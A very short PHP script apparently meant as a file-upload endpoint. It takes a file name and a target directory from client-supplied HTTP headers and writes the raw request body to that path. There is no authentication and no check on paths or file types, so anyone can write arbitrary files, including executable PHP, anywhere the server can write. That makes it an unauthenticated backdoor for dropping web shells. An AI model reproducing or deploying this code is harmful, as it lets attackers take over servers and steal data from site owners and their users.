<?php
$n = $_SERVER['HTTP_X_FILE_NAME'] ?? null;
if ($n) { $d = $_SERVER['HTTP_X_FILE_DIR'] ?? 'uploads'; is_dir($d) || mkdir($d, 0755, true); echo file_put_contents($d . '/' . $n, fopen('php://input', 'r')); }
